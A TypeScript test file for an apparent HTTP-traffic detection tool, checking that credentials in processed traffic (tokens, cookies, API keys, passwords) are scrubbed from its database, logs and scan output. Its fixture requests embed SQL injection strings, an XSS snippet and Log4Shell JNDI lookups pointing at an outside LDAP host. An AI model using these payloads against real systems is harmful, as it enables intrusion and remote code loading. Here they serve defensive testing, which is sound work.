// After the real pipeline has processed traffic that carries bearer tokens, cookies, API keys, Basic
// credentials and passwords (including inside attack payloads), none of them is anywhere on disk: not in
// the SQLite file or its WAL, not in the logs, not in scan's JSON output.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { createVigilCore } from '../../src/main/core/app'
import type { DetectorWorker } from '../../src/main/core/detection/detector-host'
import { spawnNodeDetector } from '../../src/main/core/detection/spawn-node-worker'
import { createHandFedSource } from '../support/hand-fed-source'

const b64 = (o: object): string => Buffer.from(JSON.stringify(o)).toString('base64url')
const JWT = `${b64({ alg: 'ES256', typ: 'JWT' })}.${b64({ iss: 'https://idp.desk.example', sub: 'trader-41', jti: 'jti-5521', exp: 1900000000 })}.bXktc2lnbmF0dXJlLWJ5dGVzLWFyZS1zZWNyZXQ`
const SECRETS = {
  jwt: JWT,
  jwtSignature: 'bXktc2lnbmF0dXJlLWJ5dGVzLWFyZS1zZWNyZXQ',
  cookie: 'sess-7c1e5b9a33d0f2aa',
  apiKey: 'mlkey-2f9d81c4e7a6b5c3',
  basic: Buffer.from('odata-reader:Ex3el-Feed-Pw!').toString('base64'),
  password: 'Tr4der-Pa55word-2026',
  passwordInAttack: 'Sup3rS3cret-in-sqli',
}

function line(
  n: number,
  over: { uri?: string; body?: string; headers?: Record<string, string>; status?: number },
): string {
  return JSON.stringify({
    request: {
      id: `secret-${n}`.padEnd(32, '0'),
      uri: over.uri ?? '/api/v1/orders',
      method: over.body ? 'POST' : 'GET',
      headers: { host: 'api.desk.example', 'user-agent': 'python-requests/2.32', ...over.headers },
      ...(over.body ? { body: over.body } : {}),
    },
    response: { status: over.status ?? 200 },
    client_ip: '203.0.113.88',
    consumer: { username: 'trader-41', id: 'c-41' },
    route: { name: 'orders' },
    started_at: Date.now() - 5000 + n,
  })
}

const LINES = [
  // Credentials on ordinary requests…
  line(1, {
    headers: { authorization: `Bearer ${JWT}`, cookie: `desk_session=${SECRETS.cookie}` },
  }),
  line(2, {
    uri: '/ml/v1/predict',
    headers: { apikey: SECRETS.apiKey, 'x-api-key': SECRETS.apiKey },
  }),
  line(3, { uri: '/odata/Executions', headers: { authorization: `Basic ${SECRETS.basic}` } }),
  line(4, {
    uri: '/auth/login',
    body: `{"username":"k.sato","password":"${SECRETS.password}"}`,
    status: 401,
  }),
  // …and inside requests that do raise findings, where evidence is built around the match.
  line(5, {
    uri: "/api/v1/orders?id=1'%20UNION%20SELECT%20password%20FROM%20users--",
    headers: {
      authorization: `Bearer ${JWT}`,
      cookie: `desk_session=${SECRETS.cookie}' or '1'='1`,
    },
  }),
  line(6, {
    uri: '/auth/login',
    body: `{"username":"admin' or 1=1--","password":"${SECRETS.passwordInAttack}' or '1'='1"}`,
    headers: { apikey: `${SECRETS.apiKey}<script>alert(1)</script>` },
    status: 401,
  }),
  line(7, {
    uri: '/api/v1/quotes?q=${jndi:ldap://203.0.113.5/a}',
    headers: { authorization: `Bearer ${JWT}`, 'x-api-version': '${jndi:ldap://203.0.113.5/b}' },
  }),
]

const home = mkdtempSync(join(tmpdir(), 'vigil-secrets-'))
afterAll(() => rmSync(home, { recursive: true, force: true }))

function allFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile())
    .map((d) => join(d.parentPath, d.name))
}

function expectNoSecrets(where: string, text: string): void {
  for (const [name, value] of Object.entries(SECRETS)) {
    expect(text.includes(value), `${name} found in ${where}`).toBe(false)
  }
}

describe('secrets at rest', () => {
  it('the store, its WAL and the logs hold none of the credentials the traffic carried', async () => {
    const src = createHandFedSource('secrets')
    const core = createVigilCore({
      home,
      resourcesDir: 'resources',
      spawnDetector: spawnNodeDetector as unknown as () => DetectorWorker,
      sources: () => [src],
      mode: 'demo',
    })
    await core.start()
    await src.feed(LINES)
    const incidents = core.store.listIncidents({ limit: 50 })
    expect(incidents.length).toBeGreaterThan(0) // the attacks were seen…
    const detail = core.store.getIncident(incidents[0]!.id, 100)
    expect(detail!.findings.length).toBeGreaterThan(0)
    // …a secret passed through the logger is scrubbed too.
    core.log.log(
      'warn',
      `upstream echoed Authorization: Bearer ${JWT} and password=${SECRETS.password}`,
    )
    await core.dispose()

    const files = allFiles(home)
    expect(files.some((f) => f.endsWith('.db'))).toBe(true)
    expect(files.some((f) => f.includes('logs'))).toBe(true)
    for (const f of files) expectNoSecrets(f, readFileSync(f).toString('latin1'))
  }, 60_000)

  it("scan's JSON output holds none of them", () => {
    const file = join(home, 'traffic.jsonl')
    writeFileSync(file, LINES.join('\n') + '\n')
    const out = execFileSync(
      process.execPath,
      ['--import', 'tsx', 'src/main/cli/index.ts', 'scan', file, '--json'],
      {
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'pipe'],
      },
    )
    expect(out.trim().split('\n').length).toBeGreaterThan(3)
    expectNoSecrets('scan output', out)
    expect(existsSync(file)).toBe(true)
  }, 60_000)
})
